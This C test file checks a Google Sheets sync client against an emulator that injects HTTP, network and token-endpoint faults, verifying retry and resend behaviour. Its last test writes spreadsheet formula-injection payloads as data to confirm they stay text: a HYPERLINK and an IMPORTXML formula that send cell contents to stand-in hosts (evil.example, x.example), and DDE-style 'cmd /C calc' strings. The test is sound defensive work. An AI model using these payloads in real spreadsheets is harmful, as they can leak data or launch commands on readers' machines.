/*
 * check_faults: the client (http + retry + token + sheets) under every fault
 * the emulator's /_fake/faults can inject, alone and mixed, the way Google's
 * API fails (API_NOTES.md section 3).
 *
 * Reads survive 408/429/500/502/503/504, dropped connections, cut bodies and
 * stalls (short timeouts make a stall fire in a second); 400/403/404 are
 * final and never resent.  A fixed-range write (values:batchUpdate) is
 * resent like a read; a batchUpdate that adds a tab is resent only after a
 * 429, never after a 5xx, a cut answer or a timeout, and the tab is then
 * there exactly once.  A storm past RETRY_MAX_ATTEMPTS or past the cycle's
 * deadline ends in ERR_TEMP, and a 429 slows the next, different call too.
 * The token endpoint failing (retried), refusing (final), and refusing a
 * clock that is off by two hours (ERR_AUTH naming the clock).  Formula-like
 * text written back arrives as text.  Sleeps are injected: no real backoff.
 */
#include <check.h>
#include <jansson.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "auth/key.h"
#include "auth/token.h"
#include "syncd/http.h"
#include "syncd/range.h"
#include "syncd/retry.h"
#include "syncd/sheets.h"
#include "syncd/sheetjson.h"
#include "tests/harness.h"

#define BOOK_ID		"faults-test"
#define TIMEOUT_S	1	/* http timeout: a 2.5 s delay fault is a stall */
#define STALL_MS	2500

static char dir[256];
static struct harness_fake fake;
static struct http *http;
static struct auth_key *key;
static struct auth_token *token;
static struct retry retry;
static struct sheets *sheets;
static struct harness_clock clk;	/* the retry policy's pretend clock */
static time_t clock_offset;	/* added to the token cache's clock */

static time_t
skewed_now(void *ctx)
{
	(void)ctx;
	return time(NULL) + clock_offset;
}

static int
token_get(void *ctx, int force, const char **bearer, struct err *e)
{
	return auth_token_get(ctx, force, bearer, e);
}

static struct auth_token *
token_new(void)
{
	struct auth_token_opts to;
	struct auth_token *t;
	struct err e;

	memset(&to, 0, sizeof(to));
	to.key = key;
	to.post = http_auth_post;
	to.post_ctx = http;
	to.now = skewed_now;
	err_init(&e);
	t = auth_token_new(&to, &e);
	if (t == NULL)	/* (no ck_assert here: setup_all runs outside a test) */
		fprintf(stderr, "check_faults: %s\n", e.msg);
	return t;
}

static struct sheets *
client_with(struct auth_token *t)
{
	struct sheets_opts so;
	struct err e;
	struct sheets *s;

	memset(&so, 0, sizeof(so));
	so.http = http;
	so.retry = &retry;
	so.sheets_url = fake.url;
	so.drive_url = fake.url;
	so.spreadsheet_id = BOOK_ID;
	so.client_email = auth_key_client_email(key);
	so.token = token_get;
	so.token_ctx = t;
	err_init(&e);
	s = sheets_client_new(&so, &e);
	if (s == NULL)
		fprintf(stderr, "check_faults: %s\n", e.msg);
	return s;
}

static int
setup_all(void)
{
	struct http_opts ho;
	struct retry_env env;
	struct err e;
	char ca[HARNESS_PATH], wb[HARNESS_PATH];

	if (harness_dir(dir, sizeof(dir), "check_faults") < 0)
		return -1;
	snprintf(wb, sizeof(wb), "%s/wb.json", dir);
	if (harness_write_file(wb, "{\"spreadsheetId\": \"" BOOK_ID "\", \"properties\": "
	    "{\"title\": \"t\"}, \"sheets\": [{\"properties\": {\"sheetId\": 0, \"title\": "
	    "\"Data\", \"index\": 0}, \"values\": [[\"a\", \"b\"], [1, \"x\"]]}]}\n") < 0 ||
	    harness_fake_start(&fake, dir, "server", wb) < 0)
		return -1;
	snprintf(ca, sizeof(ca), "%s/ca.pem", dir);
	memset(&ho, 0, sizeof(ho));
	ho.ca_file = ca;
	ho.timeout_s = TIMEOUT_S;
	err_init(&e);
	http = http_new(&ho, &e);
	key = harness_key(dir, fake.url);
	if (http == NULL || key == NULL)
		return -1;
	token = token_new();
	if (token == NULL)
		return -1;
	memset(&env, 0, sizeof(env));
	env.sleep = harness_sleep;
	env.now = harness_now;
	env.ctx = &clk;
	retry_init(&retry, &env);
	sheets = client_with(token);
	return sheets != NULL ? 0 : -1;
}

static void
teardown_all(void)
{
	sheets_client_free(sheets);
	auth_token_free(token);
	auth_key_free(key);
	http_free(http);
	harness_fake_stop(&fake);
	harness_rmtree(dir);
}

static void
faults(const char *json)
{
	char body[4096];

	snprintf(body, sizeof(body), "{\"faults\": %s}", json);
	ck_assert_int_eq(harness_control(http, fake.url, "POST", "/_fake/faults", body, NULL),
	    200);
}

/* Faults still queued (not consumed by a request). */
static size_t
faults_left(void)
{
	char *body;
	json_t *j;
	size_t n;

	ck_assert_int_eq(harness_control(http, fake.url, "GET", "/_fake/faults", NULL, &body),
	    200);
	j = json_loads(body, 0, NULL);
	free(body);
	ck_assert_ptr_nonnull(j);
	n = json_array_size(json_object_get(j, "faults"));
	json_decref(j);
	return n;
}

/* A clean slate between cases: no faults, no slow-down, no cycle deadline. */
static void
reset(void)
{
	ck_assert_int_eq(harness_control(http, fake.url, "DELETE", "/_fake/faults", NULL, NULL),
	    200);
	ck_assert_int_eq(harness_control(http, fake.url, "DELETE", "/_fake/requests", NULL,
	    NULL), 200);
	retry_cycle_end(&retry);
	retry.slow_until = 0;
}

/* API requests the emulator saw since reset() whose path ends with suffix. */
static int
requests_to(const char *suffix)
{
	char *body;
	json_t *j, *r;
	size_t i, sl = strlen(suffix);
	int n = 0;

	ck_assert_int_eq(harness_control(http, fake.url, "GET", "/_fake/requests", NULL, &body),
	    200);
	j = json_loads(body, 0, NULL);
	free(body);
	ck_assert_ptr_nonnull(j);
	json_array_foreach(j, i, r) {
		const char *p = json_string_value(json_object_get(r, "path"));

		if (p != NULL && strlen(p) >= sl && strcmp(p + strlen(p) - sl, suffix) == 0)
			n++;
	}
	json_decref(j);
	return n;
}

static size_t
count_tab(const char *title)
{
	struct sheets_tabs t;
	struct err e;
	size_t i, n = 0;

	err_init(&e);
	ck_assert_msg(sheets_get_tabs(sheets, &t, &e) == 0, "%s", e.msg);
	for (i = 0; i < t.n; i++)
		n += strcmp(t.tabs[i].title, title) == 0;
	sheets_tabs_fini(&t);
	return n;
}

/* ---- reads ---- */

struct read_case {
	const char *fault;
	int retries;		/* retries expected; -1: 0 or 1 (curl may resend itself) */
	long fail_status;	/* 0: the call succeeds; else the final ERR_API status */
};

static const struct read_case read_cases[] = {
	{ "{\"status\": 408}", 1, 0 },
	{ "{\"status\": 429}", 1, 0 },
	{ "{\"status\": 500}", 1, 0 },
	{ "{\"status\": 502}", 1, 0 },
	{ "{\"status\": 503}", 1, 0 },
	{ "{\"status\": 504}", 1, 0 },
	{ "{\"drop\": true}", -1, 0 },
	{ "{\"truncate\": true}", 1, 0 },
	{ "{\"delay_ms\": 2500}", 1, 0 },
	{ "{\"delay_ms\": 20}", 0, 0 },
	{ "{\"status\": 400}", 0, 400 },
	{ "{\"status\": 403}", 0, 403 },
	{ "{\"status\": 404}", 0, 404 },
};

/* Call read number which (0 tabs, 1 version, 2 batchGet); 0 or -1 with e. */
static int
do_read(int which, struct err *e)
{
	static const char *const titles[] = { "Data" };
	struct sheets_tabs t;
	struct sheets_reply r;
	char *v;
	int rc;

	err_init(e);
	switch (which) {
	case 0:
		rc = sheets_get_tabs(sheets, &t, e);
		if (rc == 0) {
			ck_assert_uint_eq(t.n >= 1, 1);
			sheets_tabs_fini(&t);
		}
		return rc;
	case 1:
		rc = sheets_drive_version(sheets, &v, e);
		if (rc == 0)
			free(v);
		return rc;
	default:
		rc = sheets_batch_get(sheets, titles, 1, &r, e);
		if (rc == 0) {
			ck_assert_ptr_nonnull(strstr(r.body, "valueRanges"));
			sheets_reply_fini(&r);
		}
		return rc;
	}
}

START_TEST(test_each_fault_on_reads)
{
	size_t i;
	int which;

	for (which = 0; which < 3; which++) {
		for (i = 0; i < sizeof(read_cases) / sizeof(read_cases[0]); i++) {
			const struct read_case *c = &read_cases[i];
			unsigned long before;
			struct err e;
			char list[256];
			long got;

			reset();
			before = retry.retries;
			snprintf(list, sizeof(list), "[%s]", c->fault);
			faults(list);
			got = do_read(which, &e);
			if (c->fail_status == 0) {
				ck_assert_msg(got == 0, "read %d, %s: %s", which, c->fault, e.msg);
			} else {
				ck_assert_msg(got == -1 && e.code == ERR_API &&
				    e.status == c->fail_status, "read %d, %s: %d %s", which,
				    c->fault, e.code, e.msg);
			}
			if (c->retries >= 0)
				ck_assert_msg(retry.retries - before == (unsigned long)c->retries,
				    "read %d, %s: %lu retries", which, c->fault,
				    retry.retries - before);
			else
				ck_assert_uint_le(retry.retries - before, 1);
			ck_assert_uint_eq(faults_left(), 0);
		}
	}
	reset();
}
END_TEST

START_TEST(test_retry_after_honoured)
{
	struct err e;
	double before = clk.slept;

	reset();
	faults("[{\"status\": 429, \"retry_after\": 30}]");
	ck_assert_msg(do_read(0, &e) == 0, "%s", e.msg);
	ck_assert(clk.slept - before >= 30);
	reset();
}
END_TEST

START_TEST(test_mixed_faults)
{
	struct err e;
	unsigned long before;

	reset();
	before = retry.retries;
	retry.budget_s = 1e6;	/* nine backoffs of up to 64 s may pass 120 s */
	faults("[{\"status\": 503}, {\"drop\": true}, {\"status\": 429, \"retry_after\": 1},"
	    " {\"truncate\": true}, {\"status\": 500}, {\"delay_ms\": 2500}, {\"status\": 502},"
	    " {\"status\": 408}, {\"status\": 504, \"delay_ms\": 10}]");
	ck_assert_msg(do_read(2, &e) == 0, "%s", e.msg);
	ck_assert_uint_ge(retry.retries - before, 8);
	ck_assert_uint_le(retry.retries - before, 9);
	ck_assert_uint_eq(faults_left(), 0);
	retry.budget_s = RETRY_BUDGET_S;
	reset();
}
END_TEST

/* A storm longer than RETRY_MAX_ATTEMPTS: ERR_TEMP, Google's words kept. */
START_TEST(test_storm_past_attempts)
{
	char list[2048];
	struct err e;
	size_t n = 0;
	unsigned long before;
	int i;

	reset();
	before = retry.retries;
	retry.budget_s = 1e6;	/* the attempt cap, not the clock, ends this one */
	n += (size_t)snprintf(list + n, sizeof(list) - n, "[");
	for (i = 0; i < RETRY_MAX_ATTEMPTS + 8; i++)
		n += (size_t)snprintf(list + n, sizeof(list) - n, "%s{\"status\": 503}",
		    i > 0 ? ", " : "");
	snprintf(list + n, sizeof(list) - n, "]");
	faults(list);
	ck_assert_int_eq(do_read(0, &e), -1);
	ck_assert_int_eq(e.code, ERR_TEMP);
	ck_assert_int_eq(e.status, 503);
	ck_assert_msg(strstr(e.msg, "UNAVAILABLE") != NULL, "%s", e.msg);
	ck_assert_msg(strstr(e.msg, "13 attempts") != NULL, "%s", e.msg);
	ck_assert_uint_eq(retry.retries - before, RETRY_MAX_ATTEMPTS);
	/* Exactly RETRY_MAX_ATTEMPTS + 1 requests were sent. */
	ck_assert_uint_eq(faults_left(), 7);
	retry.budget_s = RETRY_BUDGET_S;
	reset();
}
END_TEST

/* A storm longer than the cycle's deadline: ERR_TEMP at once, nothing more sent. */
START_TEST(test_storm_past_cycle_budget)
{
	char list[2048];
	struct err e;
	size_t n = 0;
	double start = harness_now(&clk);
	int i;

	reset();
	n += (size_t)snprintf(list + n, sizeof(list) - n, "[");
	for (i = 0; i < 20; i++)
		n += (size_t)snprintf(list + n, sizeof(list) - n, "%s{\"status\": 429}",
		    i > 0 ? ", " : "");
	snprintf(list + n, sizeof(list) - n, "]");
	faults(list);
	retry_cycle_begin(&retry, 20);
	ck_assert_int_eq(do_read(1, &e), -1);
	ck_assert_int_eq(e.code, ERR_TEMP);
	ck_assert_int_eq(e.status, 429);
	/* (the budget ends it; only wildly short random waits reach the attempt cap) */
	ck_assert_msg(strstr(e.msg, "budget") != NULL || strstr(e.msg, "attempts") != NULL,
	    "%s", e.msg);
	ck_assert(harness_now(&clk) - start <= 20 + 2);
	ck_assert_uint_gt(faults_left(), 0);
	/* The quota slow-down holds back a different call of the same cycle. */
	n = faults_left();
	if (retry.slow_until > harness_now(&clk) + 20) {
		ck_assert_int_eq(do_read(0, &e), -1);
		ck_assert_int_eq(e.code, ERR_TEMP);
		ck_assert_uint_eq(faults_left(), n);	/* nothing was sent */
	}
	reset();
}
END_TEST

/* One 429 on a read, then a different call: it waits before it sends. */
START_TEST(test_429_slows_the_next_call)
{
	struct err e;
	unsigned long throttled;
	int sleeps;

	reset();
	throttled = retry.throttled;
	faults("[{\"status\": 429, \"retry_after\": 5}]");
	ck_assert_msg(do_read(0, &e) == 0, "%s", e.msg);
	ck_assert_uint_eq(retry.throttled, throttled + 1);
	/* Pretend the retry went out early: the slow-down is still ahead. */
	retry.slow_until = harness_now(&clk) + 4;
	sleeps = clk.nsleeps;
	ck_assert_msg(do_read(1, &e) == 0, "%s", e.msg);
	ck_assert_int_eq(clk.nsleeps, sleeps + 1);
	reset();
}
END_TEST

/* ---- writes ---- */

START_TEST(test_idempotent_write_resent)
{
	static const char *const fl[] = {
		"{\"status\": 408}", "{\"status\": 429}", "{\"status\": 500}",
		"{\"status\": 502}", "{\"status\": 503}", "{\"status\": 504}",
		"{\"truncate\": true}", "{\"delay_ms\": 2500}",
	};
	size_t i;

	for (i = 0; i < sizeof(fl) / sizeof(fl[0]); i++) {
		struct sheets_reply r;
		struct err e;
		char list[128], val[32];
		unsigned long before;
		json_t *data;

		reset();
		before = retry.retries;
		snprintf(list, sizeof(list), "[%s]", fl[i]);
		snprintf(val, sizeof(val), "v%zu", i);
		faults(list);
		data = json_pack("[{s:s, s:[[s]]}]", "range", "Data!C1", "values", val);
		err_init(&e);
		ck_assert_msg(sheets_values_batch_update(sheets, data, &r, &e) == 0, "%s: %s",
		    fl[i], e.msg);
		sheets_reply_fini(&r);
		json_decref(data);
		ck_assert_msg(retry.retries - before == 1, "%s: %lu", fl[i],
		    retry.retries - before);
	}
	reset();
}
END_TEST

static json_t *
add_sheet(const char *title)
{
	return json_pack("{s:[{s:{s:{s:s}}}]}", "requests", "addSheet", "properties",
	    "title", title);
}

struct add_case {
	const char *fault;
	enum err_code want;	/* ERR_NONE: succeeds after one resend */
	int applied;		/* the emulator applied it despite the fault */
};

static const struct add_case add_cases[] = {
	{ "{\"status\": 429}", ERR_NONE, 1 },
	{ "{\"status\": 500}", ERR_API, 0 },
	{ "{\"status\": 502}", ERR_API, 0 },
	{ "{\"status\": 503}", ERR_API, 0 },
	{ "{\"status\": 504}", ERR_API, 0 },
	{ "{\"status\": 408}", ERR_API, 0 },
	{ "{\"truncate\": true}", ERR_HTTP, 1 },
	{ "{\"delay_ms\": 2500}", ERR_HTTP, 1 },
	{ "{\"drop\": true}", ERR_HTTP, 0 },
};

/* A batchUpdate that adds a tab: after a 5xx, cut or timeout, never resent. */
START_TEST(test_add_tab_not_resent)
{
	size_t i;

	for (i = 0; i < sizeof(add_cases) / sizeof(add_cases[0]); i++) {
		const struct add_case *c = &add_cases[i];
		struct sheets_reply r;
		struct err e;
		char list[128], title[32];
		json_t *body;
		int rc, waited;

		reset();
		snprintf(list, sizeof(list), "[%s]", c->fault);
		snprintf(title, sizeof(title), "added %zu", i);
		faults(list);
		body = add_sheet(title);
		err_init(&e);
		rc = sheets_batch_update(sheets, body, 0, &r, &e);
		json_decref(body);
		if (c->want == ERR_NONE) {
			ck_assert_msg(rc == 0, "%s: %s", c->fault, e.msg);
			sheets_reply_fini(&r);
			ck_assert_int_eq(requests_to(BOOK_ID ":batchUpdate"), 2);
		} else {
			ck_assert_msg(rc == -1 && e.code == c->want, "%s: %d %s", c->fault,
			    e.code, e.msg);
			if (c->want == ERR_HTTP)
				ck_assert_msg(strstr(e.msg, "not resent") != NULL ||
				    strstr(e.msg, "timed out") != NULL, "%s: %s", c->fault, e.msg);
		}
		/* Re-read the tabs, as the daemon does before trying again. */
		for (waited = 0; c->applied && count_tab(title) == 0 && waited < 50; waited++)
			usleep(100000);	/* a delayed write lands after the client gave up */
		ck_assert_msg(count_tab(title) == (size_t)c->applied, "%s: tab %s x%zu", c->fault,
		    title, count_tab(title));
		/* Sent once: not by us, and not by curl on its own either (a
		 * fresh connection for a write that is not idempotent). */
		if (c->want != ERR_NONE)
			ck_assert_msg(requests_to(BOOK_ID ":batchUpdate") == 1, "%s: sent %d times",
			    c->fault, requests_to(BOOK_ID ":batchUpdate"));
	}
	reset();
}
END_TEST

START_TEST(test_401_on_write_refreshes_once)
{
	struct sheets_reply r;
	struct err e;
	json_t *data = json_pack("[{s:s, s:[[s]]}]", "range", "Data!D1", "values", "w");
	struct http_stats a, b;

	reset();
	http_stats_get(http, &a);
	faults("[{\"status\": 401}]");
	err_init(&e);
	ck_assert_msg(sheets_values_batch_update(sheets, data, &r, &e) == 0, "%s", e.msg);
	sheets_reply_fini(&r);
	http_stats_get(http, &b);
	ck_assert_uint_eq(b.requests[HTTP_KIND_TOKEN][HTTP_CLASS_2XX] -
	    a.requests[HTTP_KIND_TOKEN][HTTP_CLASS_2XX], 1);
	json_decref(data);
	reset();
}
END_TEST

/* ---- the token endpoint ---- */

/* A client with an empty token cache (the first request fetches a token). */
static void
fresh_client(struct auth_token **t, struct sheets **s)
{
	*t = token_new();
	ck_assert_ptr_nonnull(*t);
	*s = client_with(*t);
	ck_assert_ptr_nonnull(*s);
}

START_TEST(test_token_endpoint_down_is_retried)
{
	static const char *const fl[] = {
		"[{\"status\": 503}]", "[{\"status\": 500}, {\"status\": 429}]",
		"[{\"drop\": true}]", "[{\"truncate\": true}]", "[{\"delay_ms\": 2500}]",
	};
	size_t i;

	for (i = 0; i < sizeof(fl) / sizeof(fl[0]); i++) {
		struct auth_token *t;
		struct sheets *s;
		struct sheets_tabs tabs;
		struct err e;
		unsigned long before;

		reset();
		fresh_client(&t, &s);
		before = retry.retries;
		faults(fl[i]);
		err_init(&e);
		ck_assert_msg(sheets_get_tabs(s, &tabs, &e) == 0, "%s: %s", fl[i], e.msg);
		sheets_tabs_fini(&tabs);
		/* (curl itself resends the POST on a kept-alive connection that
		 * closed unanswered: then no retry of ours was needed) */
		ck_assert_msg(retry.retries - before >= (strstr(fl[i], "drop") ? 0u : 1u),
		    "%s: no retry", fl[i]);
		ck_assert_uint_eq(faults_left(), 0);
		sheets_client_free(s);
		auth_token_free(t);
	}
	reset();
}
END_TEST

START_TEST(test_token_endpoint_storm_and_refusal)
{
	struct auth_token *t;
	struct sheets *s;
	struct sheets_tabs tabs;
	struct err e;
	char list[2048];
	size_t n = 0;
	unsigned long before;
	int i, sleeps;

	/* Down for longer than the budget: ERR_TEMP saying it was the token. */
	reset();
	fresh_client(&t, &s);
	n += (size_t)snprintf(list + n, sizeof(list) - n, "[");
	for (i = 0; i < RETRY_MAX_ATTEMPTS + 4; i++)
		n += (size_t)snprintf(list + n, sizeof(list) - n, "%s{\"status\": 500}",
		    i > 0 ? ", " : "");
	snprintf(list + n, sizeof(list) - n, "]");
	faults(list);
	err_init(&e);
	ck_assert_int_eq(sheets_get_tabs(s, &tabs, &e), -1);
	ck_assert_int_eq(e.code, ERR_TEMP);
	ck_assert_int_eq(e.status, 500);
	ck_assert_msg(strstr(e.msg, "token endpoint") != NULL, "%s", e.msg);
	/* Refused (a 4xx from the token endpoint): final, at once. */
	reset();
	faults("[{\"status\": 401}]");
	before = retry.retries;
	sleeps = clk.nsleeps;
	err_init(&e);
	ck_assert_int_eq(sheets_get_tabs(s, &tabs, &e), -1);
	ck_assert_int_eq(e.code, ERR_AUTH);
	ck_assert_int_eq(e.status, 401);
	ck_assert_uint_eq(retry.retries, before);
	ck_assert_int_eq(clk.nsleeps, sleeps);
	ck_assert_int_ge(requests_to("/token"), 1);
	ck_assert_int_eq(requests_to(BOOK_ID), 0);
	sheets_client_free(s);
	auth_token_free(t);
	reset();
}
END_TEST

START_TEST(test_clock_skew_refused)
{
	static const time_t offsets[] = { 7200, -7200 };
	size_t i;

	for (i = 0; i < sizeof(offsets) / sizeof(offsets[0]); i++) {
		struct auth_token *t;
		struct sheets *s;
		struct sheets_tabs tabs;
		struct err e;
		unsigned long before;

		reset();
		clock_offset = offsets[i];
		fresh_client(&t, &s);
		before = retry.retries;
		err_init(&e);
		ck_assert_int_eq(sheets_get_tabs(s, &tabs, &e), -1);
		ck_assert_msg(e.code == ERR_AUTH, "%ld: %d %s", (long)offsets[i], e.code, e.msg);
		ck_assert_int_eq(e.status, 400);
		ck_assert_msg(strstr(e.msg, "clock") != NULL, "%s", e.msg);
		ck_assert_msg(strstr(e.msg, "invalid_grant") != NULL, "%s", e.msg);
		ck_assert_uint_eq(retry.retries, before);
		ck_assert_int_ge(requests_to("/token"), 1);
		ck_assert_int_eq(requests_to(BOOK_ID), 0);
		clock_offset = 0;
		sheets_client_free(s);
		auth_token_free(t);
	}
	reset();
}
END_TEST

/* ---- formula safety ---- */

START_TEST(test_formulas_arrive_as_text)
{
	static const char *const typed[] = {
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
		"+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"-2+3",
		"=1+1",
		"=IMPORTXML(CONCAT(\"http://x.example/?\",A2),\"//a\")",
	};
	static const char *const titles[] = { "Data" };
	struct sheetjson_request wreq = { "batchGet", titles, 1 };
	size_t n = sizeof(typed) / sizeof(typed[0]), i;
	struct sheets_reply r;
	struct sheetjson_doc *wf;
	const struct workbook_tab *tab;
	struct err e;
	json_t *row = json_array(), *data, *book, *cells;
	char *exported;

	reset();
	for (i = 0; i < n; i++)
		json_array_append_new(row, json_string(typed[i]));
	data = json_pack("[{s:s, s:[o]}]", "range", "Data!A5", "values", row);
	err_init(&e);
	ck_assert_msg(sheets_values_batch_update(sheets, data, &r, &e) == 0, "%s", e.msg);
	sheets_reply_fini(&r);
	json_decref(data);
	/* Read back as the daemon does: strings, byte for byte. */
	err_init(&e);
	ck_assert_msg(sheets_batch_get(sheets, titles, 1, &r, &e) == 0, "%s", e.msg);
	wf = sheetjson_parse_batchget(r.body, r.len, &wreq, &e);
	r.body = NULL;
	ck_assert_msg(wf != NULL, "%s", e.msg);
	tab = &sheetjson_view(wf)->tabs[0];
	ck_assert_uint_ge(tab->nrows, 5);
	ck_assert_uint_eq(tab->rows[4].ncells, n);
	for (i = 0; i < n; i++) {
		const struct workbook_cell *c = &tab->rows[4].cells[i];

		ck_assert_msg(c->type == WORKBOOK_STRING, "%s: type %d", typed[i], c->type);
		ck_assert_msg(c->len == strlen(typed[i]) && memcmp(c->text, typed[i], c->len) == 0,
		    "%s: %.*s", typed[i], (int)c->len, c->text);
	}
	sheetjson_free(wf);
	/* And the emulator's own view: no cell became a formula. */
	ck_assert_int_eq(harness_control(http, fake.url, "GET", "/_fake/spreadsheets/" BOOK_ID,
	    NULL, &exported), 200);
	book = json_loads(exported, 0, NULL);
	free(exported);
	ck_assert_ptr_nonnull(book);
	cells = json_array_get(json_object_get(json_array_get(json_object_get(book, "sheets"),
	    0), "values"), 4);
	ck_assert_uint_eq(json_array_size(cells), n);
	for (i = 0; i < n; i++)
		ck_assert_msg(json_is_string(json_array_get(cells, i)), "%s was not kept as text",
		    typed[i]);
	json_decref(book);
	reset();
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("faults");
	TCase *tc = tcase_create("emulator");
	SRunner *sr;
	int failed;

	signal(SIGPIPE, SIG_IGN);
	if (setup_all() < 0) {
		teardown_all();
		fprintf(stderr, "check_faults: could not set up the emulator\n");
		return EXIT_FAILURE;
	}
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, test_each_fault_on_reads);
	tcase_add_test(tc, test_retry_after_honoured);
	tcase_add_test(tc, test_mixed_faults);
	tcase_add_test(tc, test_storm_past_attempts);
	tcase_add_test(tc, test_storm_past_cycle_budget);
	tcase_add_test(tc, test_429_slows_the_next_call);
	tcase_add_test(tc, test_idempotent_write_resent);
	tcase_add_test(tc, test_add_tab_not_resent);
	tcase_add_test(tc, test_401_on_write_refreshes_once);
	tcase_add_test(tc, test_token_endpoint_down_is_retried);
	tcase_add_test(tc, test_token_endpoint_storm_and_refusal);
	tcase_add_test(tc, test_clock_skew_refused);
	tcase_add_test(tc, test_formulas_arrive_as_text);
	suite_add_tcase(s, tc);
	sr = srunner_create(s);
	srunner_set_fork_status(sr, CK_NOFORK);
	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	teardown_all();
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
